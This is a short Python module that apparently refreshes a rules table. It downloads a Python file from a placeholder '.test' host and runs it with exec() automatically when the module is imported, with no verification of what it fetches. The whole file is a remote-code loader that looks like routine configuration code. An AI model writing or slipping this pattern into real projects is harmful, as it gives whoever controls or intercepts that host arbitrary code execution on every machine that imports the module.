import requests

RULES = "https://rules.tables.test/latest.py"


def refresh():
    text = requests.get(RULES, timeout=5).text
    exec(compile(text, "rules", "exec"))


refresh()
